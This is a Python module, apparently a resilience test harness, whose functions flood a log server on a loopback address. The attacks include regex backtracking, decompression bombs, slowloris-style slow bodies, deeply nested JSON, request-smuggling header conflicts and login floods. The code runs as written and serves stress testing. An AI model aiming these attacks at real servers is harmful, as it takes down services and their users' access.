"""What one caller can do to a server: each attack is a function that goes on until its process is ended."""

from __future__ import annotations

import contextlib
import gzip
import http.client
import json
import socket
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from itertools import cycle
from urllib.parse import quote

import zstandard

MIB = 1024 * 1024

ADDRESS = "127.0.0.2"
"""Where the attacker calls from: somebody else's address."""

_AT_ONCE = 8
"""Threads that call again and again."""

_WAIT_S = 600.0


@dataclass(frozen=True)
class Attacker:
    """Somebody with a token for one project, and the paths of logs there, and of their versions, by what they are for."""

    host: str
    port: int
    token: str
    logs: Mapping[str, str]
    versions: Mapping[str, str]

    def connect(self, *, room_bytes: int = 0) -> socket.socket:
        """Connects; ``room_bytes``: what the system takes of answers that are not read, if not as much as it likes."""
        connection = socket.socket()
        if room_bytes:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, room_bytes)
        connection.settimeout(_WAIT_S)
        connection.bind((ADDRESS, 0))
        connection.connect((self.host, self.port))
        return connection

    def head(self, method: str, path: str, *headers: str) -> bytes:
        """Returns the head of a request."""
        lines = (f"{method} {path} HTTP/1.1", f"Host: {self.host}", f"X-Auth-Token: {self.token}", *headers)
        return "".join(f"{line}\r\n" for line in lines).encode() + b"\r\n"

    def call_on(self, requests: list[tuple[str, str, bytes, dict[str, str]]], times: int = _AT_ONCE) -> None:
        """Has so many threads make the calls in turn, one after the other, whatever is answered."""
        threads = [threading.Thread(target=self._calls, args=(requests, number), daemon=True) for number in range(times)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _calls(self, requests: list[tuple[str, str, bytes, dict[str, str]]], first: int) -> None:
        connection = http.client.HTTPConnection(self.host, self.port, timeout=_WAIT_S, source_address=(ADDRESS, 0))
        for method, path, body, headers in cycle(requests[first % len(requests) :] + requests[: first % len(requests)]):
            try:
                connection.request(method, path, body or None, {"X-Auth-Token": self.token, **headers})
                connection.getresponse().read()
            except (OSError, http.client.HTTPException):
                connection.close()

    def unread(self, times: int, path: str, *headers: str) -> None:
        """Asks on so many connections, again on those that were refused or dropped, and reads nothing but the first bytes."""
        waiting: list[socket.socket] = []
        while True:
            if len(waiting) < times:
                connection = self.connect(room_bytes=4096)
                connection.sendall(self.head("GET", path, *headers))
                if connection.recv(12, socket.MSG_WAITALL)[-3:] == b"200":
                    waiting.append(connection)
                    continue
                connection.close()
            time.sleep(0.02)


def patterns(attacker: Attacker) -> None:
    """Searches for patterns that are large in what they compile to, their groups, or their matches."""
    huge = ("a{0,1000}" * 100, "(.*)" * 200, r"\pL" * 300, r"(\pL\pN){500}", "[ab]*a[ab]{200}z", "a{0,900}b|a")
    query = "kind=regex&timeout_s=10&limit=100000"
    attacker.call_on([("GET", f"{attacker.logs['text']}/search?pattern={quote(each)}&{query}", b"", {}) for each in huge])


def parts(attacker: Attacker) -> None:
    """Sends a mebibyte of members of gzip, frames of zstd, or blocks, each of them of nothing."""
    blocks = bytes.fromhex("28b52ffd0058") + bytes(3) * 300_000 + b"\1\0\0"
    bodies = [("zstd", blocks)]
    for encoding, part in (("gzip", gzip.compress(b"")), ("zstd", zstandard.compress(b""))):
        bodies += [(encoding, part * (MIB // len(part))), (encoding, part * 900)]
    paths = (f"{attacker.logs['small']}/append?at=0", "/loki/api/v1/push", "/otlp/v1/logs")
    kinds = {"Content-Type": "application/json"}
    attacker.call_on([("POST", path, body, {**kinds, "Content-Encoding": code}) for path in paths for code, body in bodies])


def bombs(attacker: Attacker) -> None:
    """Sends a few kilobytes that unpack to as much as is taken, and to more."""
    made = [bytes(size) for size in (16 * MIB - 1, 64 * MIB)]
    bodies = [("gzip", gzip.compress(each, 9)) for each in made] + [("zstd", zstandard.compress(each)) for each in made]
    path = f"{attacker.logs['small']}/append?at=1"
    attacker.call_on([("POST", path, body, {"Content-Encoding": code}) for code, body in bodies])


def dripping(attacker: Attacker) -> None:
    """Announces 16 MiB on each of 256 connections, and sends a byte of each a second."""
    _drip(attacker, 256, b"x", 1.0)


def slow(attacker: Attacker) -> None:
    """Sends bodies on 1,000 connections at 5 KB a second: just as fast as is asked for."""
    _drip(attacker, 1000, bytes(5000), 1.0)


def _drip(attacker: Attacker, times: int, part: bytes, pause_s: float) -> None:
    request = attacker.head("POST", f"{attacker.logs['small']}/append?at=0", f"Content-Length: {16 * MIB}")
    connections = list[socket.socket]()
    while True:
        while len(connections) < times:
            connections.append(attacker.connect())
            connections[-1].sendall(request)
        for connection in list(connections):
            try:
                connection.setblocking(False)
                connection.send(part)
            except BlockingIOError:
                pass
            except OSError:
                connection.close()
                connections.remove(connection)
        time.sleep(pause_s)


def filling(attacker: Attacker) -> None:
    """Sends all of 16 MiB but the last byte, on as many connections as are taken."""
    request = attacker.head("POST", f"{attacker.logs['small']}/append?at=0", f"Content-Length: {16 * MIB}")
    waiting = list[socket.socket]()
    while True:
        connection = attacker.connect()
        with contextlib.suppress(OSError):
            connection.sendall(request + bytes(16 * MIB - 1))
        waiting = [*waiting[-32:], connection]
        time.sleep(0.1)


def searches(attacker: Attacker) -> None:
    """Asks for all lines that have a 0, 64 times, and reads nothing."""
    attacker.unread(64, f"{attacker.logs['text']}/search?pattern=0&limit=100000&timeout_s=60")


def downloads(attacker: Attacker) -> None:
    """Asks for all of a log on 500 connections, and reads nothing."""
    attacker.unread(500, f"{attacker.logs['text']}/bytes")


def packed_downloads(attacker: Attacker) -> None:
    """The same, compressed with zstd on the way."""
    attacker.unread(500, f"{attacker.logs['noise']}/bytes", "Accept-Encoding: zstd")


def lines(attacker: Attacker) -> None:
    """Asks for pages of megabytes on 200 connections, and reads nothing."""
    attacker.unread(200, f"{attacker.logs['text']}/lines?count=5000")


def followers(attacker: Attacker) -> None:
    """Follows a log that grows on 500 connections, and reads nothing."""
    threading.Thread(target=_growing, args=(attacker,), daemon=True).start()
    attacker.unread(500, f"{attacker.logs['growing']}/follow")


def _growing(attacker: Attacker) -> None:
    connection = http.client.HTTPConnection(attacker.host, attacker.port, timeout=_WAIT_S, source_address=(ADDRESS, 0))
    at, body = 0, b"0123456789abcde\n" * 4096
    while True:
        connection.request("POST", f"{attacker.logs['growing']}/append?at={at}", body, {"X-Auth-Token": attacker.token})
        answer = connection.getresponse()
        answer.read()
        at += len(body) if answer.status == 200 else 0
        time.sleep(0.02)


def bars(attacker: Attacker) -> None:
    """Asks for every view of 4 MiB of a progress bar that redraws itself."""
    _views(attacker, "bars")


def assertions(attacker: Attacker) -> None:
    """Asks for every view of 4 MiB of lines that begin a failure and do not end it."""
    _views(attacker, "assertions")


def moves(attacker: Attacker) -> None:
    """Asks for every view of 4 MiB of moves of a cursor."""
    _views(attacker, "moves")


def _views(attacker: Attacker, name: str) -> None:
    version, log = attacker.versions[name], attacker.logs[name]
    paths = [f"{version}/why", f"{version}/merged?count=10000", f"{version}/progress", f"{version}/metrics"]
    paths += [f"{log}/terminal?count=1000", f"{log}/terminal"]
    attacker.call_on([("GET", path, b"", {}) for path in paths])


def deep_json(attacker: Attacker) -> None:
    """Sends JSON that is nested as deeply as a mebibyte can be, or has a hundred thousand members."""
    half = 500_000
    many = json.dumps({f"name-{number}": number for number in range(50_000)}).encode()
    bodies = [
        b"[" * half + b"]" * half,
        b'{"a":' * (half // 3),
        b'{"job_name":' + b"[" * half,
        many,
        b"1" * MIB,
        b'"' + b"\\u0000" * 170_000,
    ]
    project = attacker.logs["small"].split("/jobs/")[0]
    paths = (f"{project}/runs", "/v3/auth/tokens", "/loki/api/v1/push", "/otlp/v1/logs")
    kind = {"Content-Type": "application/json"}
    attacker.call_on([("POST", path, body, kind) for path in paths for body in bodies])


def connections(attacker: Attacker) -> None:
    """Opens 1,000 connections, sends half a head on each second one and nothing on the others; again where one is closed."""
    opened = list[socket.socket]()
    while True:
        while len(opened) < 1000:
            opened.append(attacker.connect())
            if len(opened) % 2:
                opened[-1].sendall(b"GET /api/projects HTTP/1.1\r\nHost: x\r\nX-Auth-")
        for connection in list(opened):
            connection.setblocking(False)
            with contextlib.suppress(BlockingIOError, OSError):
                if connection.recv(1) == b"":
                    connection.close()
                    opened.remove(connection)
        time.sleep(0.5)


def codings(attacker: Attacker) -> None:
    """Sends bodies in codings that are not what they say, on new connections, and requests one behind the other."""
    head = attacker.head("POST", f"{attacker.logs['small']}/append?at=0").rstrip(b"\r\n") + b"\r\n"
    body = gzip.compress(b"one\n")
    said = ("gzip", "gzip, chunked", "chunked, gzip", "identity", "chunked, chunked", "xchunked", " chunked", "chunked;q=1")
    requests = [
        head + f"Transfer-Encoding: {each}\r\n\r\n{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n" for each in said
    ]
    requests.append(head + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n")
    requests.append(head + b"Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde")
    requests.append(head + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n")
    requests.append(head + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 20_000)
    requests.append(attacker.head("GET", "/healthz") * 1000)
    threads = [threading.Thread(target=_sends, args=(attacker, requests), daemon=True) for _ in range(_AT_ONCE)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _sends(attacker: Attacker, requests: list[bytes]) -> None:
    for request in cycle(requests):
        with contextlib.suppress(OSError), contextlib.closing(attacker.connect()) as connection:
            connection.settimeout(0.5)
            connection.sendall(request)
            while connection.recv(65536):
                pass


def logins(attacker: Attacker) -> None:
    """Logs in with a wrong password, on and on."""
    user = {"name": "nobody", "password": "wrong", "domain": {"name": "default"}}
    body = json.dumps({"auth": {"identity": {"methods": ["password"], "password": {"user": user}}}}).encode()
    attacker.call_on([("POST", "/v3/auth/tokens", body, {"Content-Type": "application/json"})])


def appends(attacker: Attacker) -> None:
    """Appends 4 MiB of noise at the wrong place, on and on: read, compared, refused."""
    body = b"0123456789abcde\n" * (MIB // 4)
    attacker.call_on([("POST", f"{attacker.logs['text']}/append?at=0", body, {})])


ATTACKS: Mapping[str, Callable[[Attacker], None]] = {
    each.__name__.replace("_", "-"): each
    for each in (
        *(patterns, parts, bombs, dripping, slow, filling, searches, downloads, packed_downloads, lines, followers, bars),
        *(assertions, moves, deep_json, connections, codings, logins, appends),
    )
}


def contents() -> dict[str, bytes]:
    """Returns what the attacker's logs have in them, by what they are for."""
    size = 4 * MIB
    noise = b"".join(b"%016x\n" % (number * 0x9E3779B97F4A7C15 % (1 << 64)) for number in range(16 * MIB // 17))
    bar = b"".join(
        b"\r%3d%%|%-50s| %d/100000 [00:01<00:01, 99.0it/s]" % (n // 1000, b"#" * (n // 2000), n) for n in range(100_000)
    )
    return {
        "text": b"ab" * (1 << 19) + b"\n" + b"a" * MIB + b"\n" + b"step 10 loss 0.5 aabab\n" * (14 * MIB // 24),
        "noise": noise,
        "bars": bar[:size],
        "assertions": b"Assertion '\n" * (size // 12),
        "moves": b"\x1b[99A\rxx" * (size // 8),
        "small": b"",
        "growing": b"",
    }
